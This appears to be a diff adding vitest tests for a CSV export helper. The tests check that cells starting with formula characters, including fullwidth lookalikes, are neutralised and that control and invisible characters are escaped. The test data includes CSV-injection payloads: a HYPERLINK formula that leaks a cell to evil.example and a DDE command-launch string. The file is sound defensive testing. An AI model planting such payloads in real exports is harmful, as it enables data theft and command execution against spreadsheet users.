@@ -1,0 +1,63 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvLine, textCell } from '../../../functions/http/csv.ts';
+
+/** As a spreadsheet reads one line (RFC 4180). */
+function cellsOf(line: string): readonly string[] {
+  const cells = [...`,${line}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)];
+  return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
+}
+
+describe('a text in a cell', () => {
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n1',
+    ' =1',
+    '\u3000=1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '﹦1',
+    '\u22121',
+    '=HYPERLINK("https://evil.example?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+  ])('is no formula, whatever it begins with: %j', (text) => {
+    expect(textCell(text)).toMatch(/^'/);
+  });
+
+  it.each(['사이즈가 작아요', '2-1', 'a=b', "it's", '반품(교환) + 환불', '👍'])(
+    'is as it was written where nothing in it acts: %s',
+    (text) => {
+      expect(cellsOf(csvLine([textCell(text)]).trimEnd())).toEqual([text]);
+    },
+  );
+
+  it.each([
+    ['a\u001b[2Jb', String.raw`a\u001b[2Jb`],
+    ['one\r\ntwo', String.raw`one\u000d\u000atwo`],
+    ['a\u202eb\u200bc\ufeff', String.raw`a\u202eb\u200bc\ufeff`],
+    ['half \ud800', 'half \ufffd'],
+  ])('shows control, bidirectional and invisible characters as text: %j', (text, told) => {
+    expect(textCell(text)).toBe(told);
+  });
+});
+
+describe('a line', () => {
+  it('is one line with as many cells as it was given, whatever stands in them', () => {
+    const cell = fc.string({ unit: 'grapheme' }).map(textCell);
+    fc.assert(
+      fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
+        const line = csvLine(cells);
+        expect(line.indexOf('\n')).toBe(line.length - 1);
+        expect(cellsOf(line.slice(0, -2))).toEqual(cells);
+        for (const each of cells) expect(each).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
+      }),
+    );
+  });
+});
